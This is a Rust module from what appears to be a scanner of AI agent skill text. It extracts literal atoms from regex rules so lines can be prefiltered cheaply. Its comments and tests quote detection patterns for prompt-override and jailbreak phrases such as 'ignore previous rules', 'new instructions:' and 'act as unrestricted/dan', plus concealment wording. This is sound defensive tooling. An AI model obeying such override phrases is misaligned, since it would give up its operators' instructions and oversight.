//! What a line must hold for a rule to match there, read from the rule's
//! pattern with `regex-syntax`: per top-level alternative, the groups of
//! literal atoms every match holds one of each ([`requirements`]), short
//! literals for alternatives without selective ones ([`anchors`]), and a
//! loosened regex for those with none ([`prefilter`]). A set of
//! `A[^\n]*B` patterns keeps every started `A` alive to the line's end and
//! swamps the lazy DFA; literals found first avoid running most rules.

mod frequency;
mod strings;
pub mod table;

use std::borrow::Cow;
use std::sync::Arc;

use regex_syntax::ParserBuilder;
use regex_syntax::hir::literal::{ExtractKind, Extractor, Seq};
use regex_syntax::hir::{Class, Hir, HirKind, Look};
use strings::Strings;

/// `pattern` as the prefilter reads it: byte by byte (the rows' regexes
/// read characters, see `table`'s `no_small_class_holds_a_byte_beyond_ascii`),
/// `^` and `$` at every line; `None` when it does not parse so.
fn parse(pattern: &str) -> Option<Hir> {
    ParserBuilder::new()
        .multi_line(true)
        .unicode(false)
        .utf8(false)
        .build()
        .parse(pattern)
        .ok()
}

/// Literal atoms one of which every match of `pattern` contains (lower
/// case, to be searched ASCII-case-insensitively), however short or
/// common: what a line must hold for an alternative without
/// [`requirements`] to match (`'` for `[a-z]'[a-z]{1,3}'[a-z]`), each
/// with what the pattern says of its neighbours, to find its lines by
/// memchr rather than by running its regex over the whole text. `None`
/// when there are none.
pub fn anchors(pattern: &str) -> Option<Vec<Atom>> {
    let hir = parse(pattern)?;
    let (_, mut atoms) = atoms(&hir, &Context::default())?;
    atoms.sort();
    atoms.dedup();
    Some(atoms)
}

/// Whether `pattern` (read as the rows are, multi-line) matches a line
/// alone wherever it matches that line within the lines around it: it
/// has no `\A` or `\z`, the only assertions a newline beside the line
/// answers differently from the text's edge (`^`, `$` and `\b` see both
/// alike). `false` when it does not parse.
pub fn line_local(pattern: &str) -> bool {
    parse(pattern).is_some_and(|hir| {
        let looks = hir.properties().look_set();
        !looks.contains(Look::Start) && !looks.contains(Look::End)
    })
}

/// One literal atom of a group, lower case, with what the pattern says
/// must stand right before and after it, when it says so.
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Atom {
    /// Borrowed from the binary for a row in the checked-in table.
    pub word: Cow<'static, [u8]>,
    /// The pattern puts a word boundary (`\b`) before it, and it starts
    /// with a word byte: the byte before it is not one.
    pub bounded: bool,
    /// Shared: the atoms of a group share their edges, and the table's
    /// ~46,000 atoms have ~4,200 distinct ones (inline, an atom was 272
    /// bytes and the engine's start-up copied and hashed thousands).
    pub then: Option<Arc<Then>>,
    /// What must come before it, read backwards from its start (the
    /// `$(` of `\$\(\s*rev`).
    pub before: Option<Arc<Then>>,
}

impl Atom {
    /// Whether the bytes around an occurrence of the word at `start` fit
    /// what the pattern says of them: checked where the word search finds
    /// it, before its line becomes a candidate, so an everyday word
    /// (`without`, `ignore`, `dan` in `guidance`) costs no regex call
    /// unless its neighbours fit.
    pub fn fits(&self, text: &[u8], start: usize) -> bool {
        let after_word = start
            .checked_sub(1)
            .is_some_and(|before| is_word(text[before]));
        !(self.bounded && after_word)
            && self
                .then
                .as_ref()
                .is_none_or(|then| then.holds(text, start + self.word.len()))
            && self
                .before
                .as_ref()
                .is_none_or(|before| before.precedes(text, start))
    }

    /// The bytes that may stand right before an occurrence that fits and
    /// right after it, where the text has a byte there: what `fits`
    /// needs of them, read off `bounded`, `before` and `then`.
    pub fn neighbours(&self) -> (ByteSet, ByteSet) {
        let side =
            |edge: &Option<Arc<Then>>| edge.as_deref().map_or_else(ByteSet::all, Then::next_to);
        let mut before = side(&self.before);
        if self.bounded {
            before = before.intersection(&NOT_WORD);
        }
        (before, side(&self.then))
    }

    /// The bytes that may stand second before an occurrence that fits
    /// and second after it, where the text has a byte there: what `fits`
    /// needs of them where a run of skipped bytes must come next to the
    /// word (`without\s+telling`: the byte after the space).
    pub fn second_neighbours(&self) -> (ByteSet, ByteSet) {
        let side =
            |edge: &Option<Arc<Then>>| edge.as_deref().map_or_else(ByteSet::all, Then::second_to);
        (side(&self.before), side(&self.then))
    }
}

/// Whether `there` is `lower`, a lower-case word, in any ASCII case:
/// only `there` is folded (`eq_ignore_ascii_case` folds both sides, a
/// fifth of the instructions of a found word's check).
pub(crate) fn is_folded(there: &[u8], lower: &[u8]) -> bool {
    there.len() == lower.len()
        && there
            .iter()
            .zip(lower)
            .all(|(t, &l)| t.to_ascii_lowercase() == l)
}

/// A byte of `\w` (ASCII), as the rules' `\b` reads it.
pub(crate) const fn is_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

/// The bytes that are not [`is_word`]: what may stand before a bounded
/// atom. A constant, since the engine's start-up asks it of thousands of
/// atoms (built byte by byte each time, a tenth of a one-line scan).
const NOT_WORD: ByteSet = {
    let mut set = [0u64; 4];
    let mut byte = 0;
    while byte < 256 {
        if !is_word(byte as u8) {
            set[byte >> 6] |= 1 << (byte & 63);
        }
        byte += 1;
    }
    ByteSet(set)
};

/// What must follow an atom for its alternative to match: a run of
/// `skip` bytes (whitespace, as `\s+` says), at least `least` of them,
/// then one of `prefixes` (compared ASCII-case-insensitively; none when
/// the run ends the pattern). Checked
/// where the word search finds the atom, it keeps everyday words
/// (`without`, `ignore`, `user`) from sending their lines to the rule's
/// regex unless the next word fits (`without telling`).
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Then {
    skip: ByteSet,
    least: usize,
    /// In the order of their byte next to the atom.
    prefixes: Strings,
    /// The byte next to the atom (after the skipped run) of every
    /// prefix, in both cases: most checks end at one bit.
    edge: ByteSet,
    /// Each prefix's byte next to the atom, in the prefixes' order: found
    /// in one array, not through each prefix's own allocation.
    edge_bytes: Box<[u8]>,
}

/// Hashes the skipped bytes, the least run and the next bytes' set, not
/// the prefixes (`Eq` compares them): the engine's start-up keys its
/// trigger atoms by value, and hashing every prefix of every edge was a
/// sixth of a one-line `skillworld scan` (import24).
impl std::hash::Hash for Then {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        (&self.skip, self.least, &self.edge).hash(state);
    }
}

/// A set of bytes, one bit each.
#[derive(Clone, Debug, Default, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ByteSet([u64; 4]);

impl ByteSet {
    pub fn all() -> Self {
        ByteSet([u64::MAX; 4])
    }

    fn intersection(&self, other: &ByteSet) -> ByteSet {
        ByteSet(std::array::from_fn(|i| self.0[i] & other.0[i]))
    }

    fn of(bytes: impl IntoIterator<Item = u8>) -> Self {
        let mut set = ByteSet::default();
        for byte in bytes {
            set.0[usize::from(byte >> 6)] |= 1 << (byte & 63);
        }
        set
    }

    fn union(&self, other: &ByteSet) -> ByteSet {
        ByteSet(std::array::from_fn(|i| self.0[i] | other.0[i]))
    }

    pub fn contains(&self, byte: u8) -> bool {
        self.0[usize::from(byte >> 6)] >> (byte & 63) & 1 != 0
    }
}

impl Then {
    /// `prefixes` are lower case; `backwards` reads them as suffixes.
    fn new(skip: ByteSet, least: usize, mut prefixes: Vec<Vec<u8>>, backwards: bool) -> Self {
        // By the byte next to the atom: a check compares only the
        // prefixes that start with the byte it meets.
        prefixes.sort_by_key(|p| next_to_atom(p, backwards));
        Then::of_ordered(skip, least, Strings::of(&prefixes), backwards)
    }

    /// A `Then` whose `prefixes` are in the order of their byte next to
    /// the atom already (the table's, borrowed from its statics).
    fn of_ordered(skip: ByteSet, least: usize, prefixes: Strings, backwards: bool) -> Self {
        let edge = prefixes
            .iter()
            .filter_map(|p| next_to_atom(p, backwards))
            .flat_map(|b| [b.to_ascii_lowercase(), b.to_ascii_uppercase()]);
        Then {
            skip,
            least,
            edge: ByteSet::of(edge),
            edge_bytes: (prefixes.iter())
                .map(|p| next_to_atom(p, backwards).unwrap_or(0))
                .collect(),
            prefixes,
        }
    }

    /// The prefixes whose byte next to the atom is `byte`.
    fn meeting(&self, byte: u8) -> impl Iterator<Item = &[u8]> {
        let byte = byte.to_ascii_lowercase();
        let from = self.edge_bytes.partition_point(|&b| b < byte);
        let to = from
            + self.edge_bytes[from..]
                .iter()
                .take_while(|&&b| b == byte)
                .count();
        (from..to).map(|at| self.prefixes.get(at))
    }

    /// The bytes that may stand right next to the atom where this holds:
    /// a skipped byte, or when the run may be empty, a prefix's edge (or
    /// anything, when no prefix must follow).
    fn next_to(&self) -> ByteSet {
        match (self.least, self.prefixes.is_empty()) {
            (0, true) => ByteSet::all(),
            (0, false) => self.skip.union(&self.edge),
            _ => self.skip.clone(),
        }
    }

    /// The bytes that may stand second from the atom where this holds:
    /// where the run is at least one byte long, the run's next byte or,
    /// after one byte, a prefix's edge (anything, when no prefix must
    /// follow); anything where the run may be empty.
    fn second_to(&self) -> ByteSet {
        match (self.least, self.prefixes.is_empty()) {
            (0, _) | (1, true) => ByteSet::all(),
            (1, false) => self.skip.union(&self.edge),
            _ => self.skip.clone(),
        }
    }

    /// Whether `text` holds what must follow at `end` (where the atom ends).
    pub fn holds(&self, text: &[u8], end: usize) -> bool {
        let rest = text.get(end..).unwrap_or_default();
        let skipped = rest.iter().take_while(|&&b| self.skip.contains(b)).count();
        let rest = &rest[skipped..];
        skipped >= self.least
            && (self.prefixes.is_empty()
                || rest.first().is_some_and(|&b| {
                    self.edge.contains(b)
                        && self
                            .meeting(b)
                            .any(|p| rest.get(..p.len()).is_some_and(|there| is_folded(there, p)))
                }))
    }

    /// Whether `text` holds what must come before `start` (where the
    /// atom starts), for a `Then` read backwards: its prefixes are the
    /// suffixes of what precedes.
    pub fn precedes(&self, text: &[u8], start: usize) -> bool {
        let before = text.get(..start).unwrap_or_default();
        let skipped = before
            .iter()
            .rev()
            .take_while(|&&b| self.skip.contains(b))
            .count();
        let before = &before[..before.len() - skipped];
        skipped >= self.least
            && (self.prefixes.is_empty()
                || before.last().is_some_and(|&b| {
                    self.edge.contains(b)
                        && self.meeting(b).any(|p| {
                            before
                                .len()
                                .checked_sub(p.len())
                                .is_some_and(|at| is_folded(&before[at..], p))
                        })
                }))
    }
}

/// What must follow a run of literals, read from the parts after it
/// (`rest`): an optional run of a small non-letter class (`\s+`), then a
/// finite set of prefixes none of which starts with a skipped byte.
/// `None` when anything may follow (a wide gap, an optional end).
fn then(rest: &[Hir]) -> Option<Then> {
    edge(rest.iter(), ExtractKind::Prefix)
}

/// What must come before a run of literals, read backwards from the
/// parts before it (`prior`) as [`then`] reads forwards.
fn preceded(prior: &[Hir]) -> Option<Then> {
    edge(prior.iter().rev(), ExtractKind::Suffix)
}

/// The edge of a run of literals: `parts` lead away from it (forwards
/// for a `Prefix`, backwards for a `Suffix`).
fn edge<'h>(parts: impl Iterator<Item = &'h Hir>, kind: ExtractKind) -> Option<Then> {
    let rest: Vec<&Hir> = parts
        .skip_while(|h| matches!(h.kind(), HirKind::Look(_)))
        .collect();
    let gap = match rest.first().map(|h| h.kind()) {
        Some(HirKind::Repetition(r)) if is_gap(rest[0]) => {
            let skip = class_bytes(&r.sub).filter(|s| !s.iter().any(u8::is_ascii_alphanumeric));
            skip.map(|skip| (ByteSet::of(skip), r.min as usize, 1))
        }
        _ => Some((ByteSet::default(), 0, 0)),
    };
    gap.and_then(|(skip, least, taken)| edge_beyond(&rest, skip, least, taken, &kind))
        .or_else(|| {
            // The classes next to the literals (`[a-z]{1,3}` before the
            // closing quote of `'[a-z]{1,3}'`) read as one run of skipped
            // bytes: greedy skipping stops where the pattern's own run
            // does, since no literal beyond starts with a skipped byte.
            let mut skip = ByteSet::default();
            let mut least = 0;
            let mut taken = 0;
            for part in &rest {
                let (class, min) = match part.kind() {
                    HirKind::Repetition(r) => (class_bytes_any(&r.sub), r.min as usize),
                    HirKind::Class(_) => (class_bytes_any(part), 1),
                    _ => (None, 0),
                };
                let Some(class) = class else { break };
                skip = skip.union(&ByteSet::of(class.iter().flat_map(|b| both_cases(*b))));
                least += min;
                taken += 1;
            }
            (taken > 0).then_some(())?;
            edge_beyond(&rest, skip, least, taken, &kind)
        })
}

/// The edge whose skipped run is `rest[..taken]` (bytes `skip`, at least
/// `least` of them): the literals of what lies beyond, none of which may
/// start (or end, read backwards) with a skipped byte.
fn edge_beyond(
    rest: &[&Hir],
    skip: ByteSet,
    least: usize,
    taken: usize,
    kind: &ExtractKind,
) -> Option<Then> {
    let backwards = matches!(kind, ExtractKind::Suffix);
    if least > 0
        && rest[taken..]
            .iter()
            .all(|h| matches!(h.kind(), HirKind::Look(_)))
    {
        // Nothing beyond the run: the run alone (`[a-z]` after `''`).
        return Some(Then::new(skip, least, Vec::new(), backwards));
    }
    let mut beyond: Vec<Hir> = rest[taken..].iter().map(|h| (*h).clone()).collect();
    if backwards {
        beyond.reverse();
    }
    let beyond = Hir::concat(beyond);
    // Literals, or when a class is too wide to spell them out
    // (`\d{1,3}\.`), the few bytes a match can start (or end) with.
    let mut seq = literals(&beyond, kind.clone(), 64, 16, 8);
    if !seq.is_finite() {
        seq = literals(&beyond, kind.clone(), FIRST_BYTES, 1, FIRST_BYTES);
    }
    let mut starts: Vec<Vec<u8>> = seq
        .literals()?
        .iter()
        .map(|l| l.as_bytes().to_ascii_lowercase())
        .collect();
    let usable = |p: &Vec<u8>| {
        next_to_atom(p, backwards).is_some_and(|b| both_cases(b).iter().all(|&b| !skip.contains(b)))
    };
    if starts.is_empty() || !starts.iter().all(usable) {
        return None;
    }
    starts.sort();
    starts.dedup();
    Some(Then::new(skip, least, starts, backwards))
}

/// The byte of `prefix` next to the atom: its first, or its last where
/// it is read `backwards` (what comes before the atom).
fn next_to_atom(prefix: &[u8], backwards: bool) -> Option<u8> {
    if backwards {
        prefix.last().copied()
    } else {
        prefix.first().copied()
    }
}

fn both_cases(byte: u8) -> [u8; 2] {
    [byte.to_ascii_lowercase(), byte.to_ascii_uppercase()]
}

/// The most first bytes a [`Then`] lists when it has no longer prefixes:
/// more would select little and cost a compare each.
const FIRST_BYTES: usize = 16;

/// The literal prefixes of what `hir` matches: at most `total` of them,
/// each cut at `len` bytes, classes of up to `class` bytes spelled out.
fn prefixes(hir: &Hir, total: usize, len: usize, class: usize) -> Seq {
    literals(hir, ExtractKind::Prefix, total, len, class)
}

/// The literal prefixes or suffixes (`kind`) of what `hir` matches, as
/// [`prefixes`].
fn literals(hir: &Hir, kind: ExtractKind, total: usize, len: usize, class: usize) -> Seq {
    let mut extractor = Extractor::new();
    extractor
        .kind(kind)
        .limit_total(total)
        .limit_class(class)
        .limit_literal_len(len);
    extractor.extract(hir)
}

/// The bytes of a small class (`\s`, ` `), `None` for anything else.
fn class_bytes(hir: &Hir) -> Option<Vec<u8>> {
    let bytes = class_bytes_any(hir)?;
    (bytes.len() <= 8).then_some(bytes)
}

/// The bytes of a class or a one-byte literal, however many.
fn class_bytes_any(hir: &Hir) -> Option<Vec<u8>> {
    match hir.kind() {
        HirKind::Class(Class::Bytes(class)) => {
            Some(class.iter().flat_map(|r| r.start()..=r.end()).collect())
        }
        HirKind::Literal(l) if l.0.len() == 1 => Some(l.0.to_vec()),
        _ => None,
    }
}

/// How a clause's groups are ordered, the first its trigger (the one the
/// word search looks for; every group is still required).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Order {
    /// By what the group's atoms cost where they were measured
    /// (`frequency.txt`).
    Measured,
    /// The group whose shortest word is longest, groups of everyday words
    /// last: the group whose line a row that reads sentences is tried
    /// from (a wrapped order is read from that line), the order its
    /// fixtures were written against. Its plan still triggers on the
    /// cheapest group (`table::Plan::Groups`'s `line`).
    Longest,
}

impl Order {
    /// The order of a row's clauses' candidate lines: whether the row
    /// reads sentences.
    pub fn of(reads_sentences: bool) -> Order {
        match reads_sentences {
            true => Order::Longest,
            false => Order::Measured,
        }
    }
}

/// Groups of literal atoms that every match of `pattern` (one alternative,
/// written without flags) holds one atom of each: its selective runs of
/// literal pieces between gaps, all of them (lower case; runs of short or
/// common words are left out), the most selective first. Empty when it
/// has none.
///
/// A line is worth trying only when it holds an atom of every group:
/// `\bact\s+as\s+(?:unrestricted|dan)\b` needs `act` and one of
/// `unrestricted`, `dan` on the line, not just `act`.
pub fn requirements(pattern: &str, order: Order) -> Vec<Vec<Atom>> {
    let Some(hir) = parse(pattern) else {
        return Vec::new();
    };
    let mut found = Vec::new();
    groups(&hir, &Context::default(), &mut found);
    found.retain(|(score, _)| *score >= 2);
    match order {
        // The group that costs least where it was measured triggers:
        // fewest lines tried, fewest words found for nothing.
        Order::Measured => found.sort_by_key(|(score, atoms)| {
            (*score < 3, atoms.iter().map(frequency::cost).sum::<u64>())
        }),
        // A group of everyday words triggers only where no other group of
        // three bytes or more can; a weak group loses ties: another group
        // of the same score triggers.
        Order::Longest => found.sort_by_key(|(score, atoms)| {
            (
                *score < 3,
                atoms.iter().any(|a| is_everyday(&a.word)),
                std::cmp::Reverse(*score),
                atoms.iter().any(|a| is_weak(&a.word)),
            )
        }),
    }
    if found.first().is_none_or(|(score, _)| *score < 3) {
        return Vec::new();
    }
    found
        .into_iter()
        .map(|(_, mut atoms)| {
            atoms.sort();
            atoms.dedup();
            atoms
        })
        .collect()
}

/// Where a piece of a pattern stands: right after a word boundary
/// (`\b`), and what follows it.
#[derive(Clone, Default)]
struct Context {
    bounded: bool,
    before: Vec<Hir>,
    after: Vec<Hir>,
}

impl Context {
    /// The context of `parts[at]` in a concatenation standing in `self`.
    fn of(&self, parts: &[Hir], at: usize) -> Context {
        self.run(parts, at, at + 1)
    }

    /// The context of a run of `parts` from `from` up to (not including)
    /// `to`, which it shares with its last part.
    fn run(&self, parts: &[Hir], from: usize, to: usize) -> Context {
        Context {
            bounded: if from == 0 {
                self.bounded
            } else {
                is_boundary(&parts[from - 1])
            },
            before: self.before.iter().chain(&parts[..from]).cloned().collect(),
            after: parts[to..].iter().chain(&self.after).cloned().collect(),
        }
    }
}

fn is_boundary(hir: &Hir) -> bool {
    matches!(
        hir.kind(),
        HirKind::Look(Look::WordAscii | Look::WordStartAscii | Look::WordStartHalfAscii)
    )
}

/// Every group `hir` requires, scored as [`atoms`] scores them.
fn groups(hir: &Hir, context: &Context, out: &mut Vec<(usize, Vec<Atom>)>) {
    match hir.kind() {
        HirKind::Capture(capture) => groups(&capture.sub, context, out),
        HirKind::Repetition(r) if r.min >= 1 && is_gap(hir) => {
            groups(&r.sub, &Context::default(), out)
        }
        HirKind::Repetition(r) if r.min == 0 => {}
        HirKind::Concat(parts) => {
            let mut run: Vec<Hir> = Vec::new();
            let mut from = 0;
            for (at, part) in parts.iter().enumerate() {
                if cuts(part) {
                    let piece = Hir::concat(std::mem::take(&mut run));
                    out.extend(literal_atoms(&piece, &context.run(parts, from, at)));
                    if !is_wide(part) {
                        groups(part, &context.of(parts, at), out);
                    }
                    from = at + 1;
                } else {
                    run.push(part.clone());
                }
            }
            let piece = Hir::concat(run);
            out.extend(literal_atoms(
                &piece,
                &context.run(parts, from, parts.len()),
            ));
        }
        _ => out.extend(atoms(hir, context)),
    }
}

/// The top-level alternatives of `pattern` (written without flags), each
/// as a pattern of its own: a rule whose alternatives are not all
/// anchored by atoms still lets the anchored ones join the automaton.
pub fn branches(pattern: &str) -> Vec<String> {
    let parsed = parse(pattern);
    match parsed.as_ref().map(Hir::kind) {
        Some(HirKind::Alternation(branches)) => branches.iter().map(Hir::to_string).collect(),
        // `\bA|\bB` is parsed as `\b(?:A|B)`: each branch keeps the `\b`,
        // so that one with a common word (`download`) does not send its
        // lines to the whole row's regex unless its other words are there.
        // The prose rows' closing edge after all their alternatives
        // (`(?:A|B)(?:$|\W)`) is left out: a branch without it is planned
        // on its own words (what the branch needs, the branch with its edge
        // needs too), where one group of all their words (`ignore`,
        // `instead`, `forget`…) sent every line holding any of them to the
        // row.
        Some(HirKind::Concat(parts)) => {
            let looks = parts
                .iter()
                .take_while(|part| matches!(part.kind(), HirKind::Look(_)))
                .count();
            let (before, rest) = parts.split_at(looks);
            let lead: String = before.iter().map(Hir::to_string).collect();
            match rest.split_first().map(|(first, edge)| (first.kind(), edge)) {
                Some((HirKind::Alternation(branches), edge))
                    if looks == 1 && edge.is_empty() || is_edge(edge) =>
                {
                    branches.iter().map(|b| format!("{lead}{b}")).collect()
                }
                _ => vec![pattern.to_owned()],
            }
        }
        _ => vec![pattern.to_owned()],
    }
}

/// Whether `parts`, what follows a pattern's alternatives, is only the
/// edge they end on (`(?:$|\W)`, `\b`): no literal text that could anchor
/// them, so each alternative is planned without it. (A literal after them,
/// as in `(?:^|\s)sudo\s`, is what anchors the pattern: kept whole.)
fn is_edge(parts: &[Hir]) -> bool {
    !parts.is_empty() && parts.iter().all(|part| weight(part) == 0)
}

/// Words too common in prose to single out a rule.
const COMMON: &[&[u8]] = &[
    b"you", b"are", b"the", b"and", b"for", b"run", b"use", b"now", b"not", b"all", b"any", b"can",
    b"with", b"this", b"that", b"from", b"your", b"data", b"file", b"open", b"read", b"send",
    b"post", b"copy", b"type", b"user", b"call", b"web", b"get", b"set", b"new", b"report",
    b"include", b"share", b"format", b"system", b"local", b"login", b"key", b"config",
    // Trigger words found hundreds of times a corpus pass (`act` 2,204
    // times for one fit): another group of their clauses triggers. Each
    // was kept only where the scan's instruction count fell; others
    // (`ask`, `list`, `let`) leave a clause no group and cost more.
    b"act", b"mode", b"rev", b"method", b"label", b"present", b"client", b"start", b"what",
];

/// In every line that holds a link (`http://`, ` https://`): long, but
/// as common in skill text as a three-byte word, so any other group of a
/// clause is the better trigger.
fn is_weak(word: &[u8]) -> bool {
    matches!(word.trim_ascii(), b"http://" | b"https://")
}

/// Everyday words of skill text, long enough to outscore a rare short
/// word (`their` beside `mfa`, `code` beside `chat`) but found a hundred
/// times or more a corpus pass: a clause triggered by one was tried on
/// every line that held it, where a rarer group of the clause, three
/// bytes or more, is on few.
fn is_everyday(word: &[u8]) -> bool {
    EVERYDAY.contains(&word.trim_ascii())
}

const EVERYDAY: &[&[u8]] = &[
    b"their",
    b"user's",
    b"owner's",
    b"turn",
    b"turning",
    b"switch",
    b"switching",
    b"remove",
    b"removing",
    b"disable",
    b"disabling",
    b"deactivate",
    b"deactivating",
    b"check",
    b"checks",
    b"code",
    b"project",
    b"service",
    b"server",
    b"application",
    b"install",
    b"token",
    b"function",
    b"return",
    b"save",
    b"support",
    b"storage",
    b"schema",
    b"database",
    // English spellings of the nouns `conceal-intl`'s French and
    // Portuguese clauses end on ("sans demander de confirmation",
    // "não é necessário"): 1.5 M instructions a bench pass (merge74).
    b"confirmation",
    b"permission",
    b"validation",
    b"autorisation",
    b"necess",
];

/// (score, atoms): the score is the shortest atom's length, less when an
/// atom is a common word.
fn atoms(hir: &Hir, context: &Context) -> Option<(usize, Vec<Atom>)> {
    match hir.kind() {
        HirKind::Capture(capture) => atoms(&capture.sub, context),
        HirKind::Alternation(branches) => {
            let mut score = usize::MAX;
            let mut all = Vec::new();
            for branch in branches {
                let (s, a) = atoms(branch, context)?;
                score = score.min(s);
                all.extend(a);
            }
            Some((score, all))
        }
        HirKind::Repetition(r) if r.min >= 1 && is_gap(hir) => atoms(&r.sub, &Context::default()),
        HirKind::Concat(parts) => {
            let mut best: Option<(usize, Vec<Atom>)> = None;
            let mut consider = |found: Option<(usize, Vec<Atom>)>| {
                if let Some(found) = found
                    && best.as_ref().is_none_or(|b| found.0 > b.0)
                {
                    best = Some(found);
                }
            };
            let mut run: Vec<Hir> = Vec::new();
            let mut from = 0;
            for (at, part) in parts.iter().enumerate() {
                if cuts(part) {
                    let piece = Hir::concat(std::mem::take(&mut run));
                    consider(literal_atoms(&piece, &context.run(parts, from, at)));
                    if !is_wide(part) {
                        consider(atoms(part, &context.of(parts, at)));
                    }
                    from = at + 1;
                } else {
                    run.push(part.clone());
                }
            }
            let piece = Hir::concat(run);
            consider(literal_atoms(
                &piece,
                &context.run(parts, from, parts.len()),
            ));
            best
        }
        _ if is_gap(hir) => None,
        _ => literal_atoms(hir, context),
    }
}

/// Where a run of literal pieces ends: a wide class, a gap, or a piece
/// whose literals cannot be spelled out (`(?:\d{1,3}\.){3}`), so that
/// the literals before it are exact and know what follows them.
fn cuts(part: &Hir) -> bool {
    is_wide(part) || is_gap(part) || has_gap(part) || !prefixes(part, 64, 16, 8).is_finite()
}

/// A class too wide to spell out as literals (`\w`, `\S`, `[^/]`).
fn is_wide(hir: &Hir) -> bool {
    match hir.kind() {
        HirKind::Class(Class::Bytes(class)) => {
            class
                .ranges()
                .iter()
                .map(|r| usize::from(r.end() - r.start()) + 1)
                .sum::<usize>()
                > 8
        }
        HirKind::Class(Class::Unicode(class)) => {
            class
                .ranges()
                .iter()
                .map(|r| r.end() as usize - r.start() as usize + 1)
                .sum::<usize>()
                > 8
        }
        HirKind::Look(_) => true,
        HirKind::Alternation(branches) => branches
            .iter()
            .any(|b| matches!(b.kind(), HirKind::Look(_))),
        _ => false,
    }
}

/// The exact literals a gap-free piece can match, scored, each with what
/// its `context` says of its edges when every literal is the whole piece.
fn literal_atoms(hir: &Hir, context: &Context) -> Option<(usize, Vec<Atom>)> {
    let seq = prefixes(hir, 300, 40, 8);
    let literals = seq.literals()?;
    let words: Vec<Vec<u8>> = literals
        .iter()
        .map(|l| l.as_bytes().to_ascii_lowercase())
        .collect();
    let shortest = words.iter().map(Vec::len).min()?;
    let common = words.iter().any(|w| COMMON.contains(&w.trim_ascii()));
    let score = if common {
        shortest.min(2)
    } else if words.iter().any(|w| is_weak(w)) {
        shortest.min(3)
    } else {
        shortest
    };
    let exact = seq.is_exact();
    let then = if exact { then(&context.after) } else { None }.map(Arc::new);
    let before = if exact {
        preceded(&context.before)
    } else {
        None
    }
    .map(Arc::new);
    let atoms = words
        .into_iter()
        .map(|word| Atom {
            bounded: context.bounded && word.first().is_some_and(|&b| is_word(b)),
            then: then.clone(),
            before: before.clone(),
            word: Cow::Owned(word),
        })
        .collect();
    (shortest > 0).then_some((score, atoms))
}

/// The prefilter for `pattern` (written for `(?im-u)`), as a regex.
pub fn prefilter(pattern: &str) -> String {
    let parsed = ParserBuilder::new()
        .case_insensitive(true)
        .multi_line(true)
        .unicode(false)
        .utf8(false)
        .build()
        .parse(pattern);
    match parsed {
        Ok(hir) => reduce(&hir).to_string(),
        Err(_) => pattern.to_owned(),
    }
}

fn reduce(hir: &Hir) -> Hir {
    match hir.kind() {
        HirKind::Capture(capture) => reduce(&capture.sub),
        HirKind::Alternation(branches) => Hir::alternation(branches.iter().map(reduce).collect()),
        HirKind::Concat(parts) => {
            let mut best: (usize, Vec<Hir>) = (0, Vec::new());
            let mut run: Vec<Hir> = Vec::new();
            let keep = |run: &mut Vec<Hir>, best: &mut (usize, Vec<Hir>)| {
                let score = run.iter().map(weight).sum();
                if score > best.0 || best.1.is_empty() {
                    *best = (score, std::mem::take(run));
                }
                run.clear();
            };
            for part in parts {
                if is_gap(part) {
                    keep(&mut run, &mut best);
                    if let HirKind::Repetition(r) = part.kind()
                        && r.min >= 1
                    {
                        run.push(reduce(&r.sub));
                        keep(&mut run, &mut best);
                    }
                } else if has_gap(part) {
                    keep(&mut run, &mut best);
                    run.push(reduce(part));
                    keep(&mut run, &mut best);
                } else {
                    run.push(part.clone());
                }
            }
            keep(&mut run, &mut best);
            Hir::concat(best.1)
        }
        HirKind::Repetition(r) if is_gap(hir) && r.min >= 1 => reduce(&r.sub),
        _ if is_gap(hir) => Hir::empty(),
        _ => hir.clone(),
    }
}

/// An unbounded (or long) repetition.
fn is_gap(hir: &Hir) -> bool {
    matches!(hir.kind(), HirKind::Repetition(r) if r.max.is_none_or(|max| max > 3))
}

fn has_gap(hir: &Hir) -> bool {
    match hir.kind() {
        HirKind::Capture(c) => has_gap(&c.sub),
        HirKind::Concat(parts) | HirKind::Alternation(parts) => parts.iter().any(has_gap),
        HirKind::Repetition(r) => is_gap(hir) || has_gap(&r.sub),
        _ => false,
    }
}

/// How literal a piece is: bytes of literal text; a case-folded letter
/// counts as one; an alternation counts as its weakest branch.
fn weight(hir: &Hir) -> usize {
    match hir.kind() {
        HirKind::Literal(literal) => literal.0.len(),
        HirKind::Class(Class::Bytes(class)) => usize::from(
            class.ranges().len() <= 2 && class.ranges().iter().all(|r| r.start() == r.end()),
        ),
        HirKind::Class(Class::Unicode(class)) => usize::from(
            class.ranges().len() <= 2 && class.ranges().iter().all(|r| r.start() == r.end()),
        ),
        HirKind::Capture(c) => weight(&c.sub),
        HirKind::Concat(parts) => parts.iter().map(weight).sum(),
        HirKind::Alternation(branches) => branches.iter().map(weight).min().unwrap_or(0),
        _ => 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use regex::bytes::Regex;

    /// Only the text's own edges (`\A`, `\z`) tell a line alone from
    /// the line among others.
    #[test]
    fn line_local_patterns_have_no_text_edges() {
        for local in [r"^\s*foo$", r"\bfoo\b", r"\\AppData\\", r"a\s+b"] {
            assert!(line_local(local), "{local}");
        }
        for whole in [r"\Afoo", r"foo\z", r"x|(?-m:^y)", r"(unclosed"] {
            assert!(!line_local(whole), "{whole}");
        }
    }

    /// The constant is the set `\b` reads before a word byte.
    #[test]
    fn not_word_is_every_byte_but_words() {
        for byte in 0..=u8::MAX {
            let word = byte.is_ascii_alphanumeric() || byte == b'_';
            assert_eq!(NOT_WORD.contains(byte), !word, "{byte:#x}");
        }
    }

    /// Alternatives closed by a shared edge are planned one by one,
    /// without the edge; alternatives before a literal stay one pattern.
    #[test]
    fn alternatives_before_an_edge_are_planned_apart() {
        let split = branches(r"(?:\bignore\s+previous\s+rules|\bnew\s+instructions:)(?:$|\W)");
        assert_eq!(split.len(), 2, "{split:?}");
        assert!(split.iter().all(|b| !b.contains('$')), "{split:?}");
        let groups = requirements(&split[0], Order::Longest);
        assert_eq!(groups.len(), 3, "{groups:?}");
        assert!(
            groups
                .iter()
                .all(|g| !g.iter().any(|a| *a.word == *b"instructions"))
        );
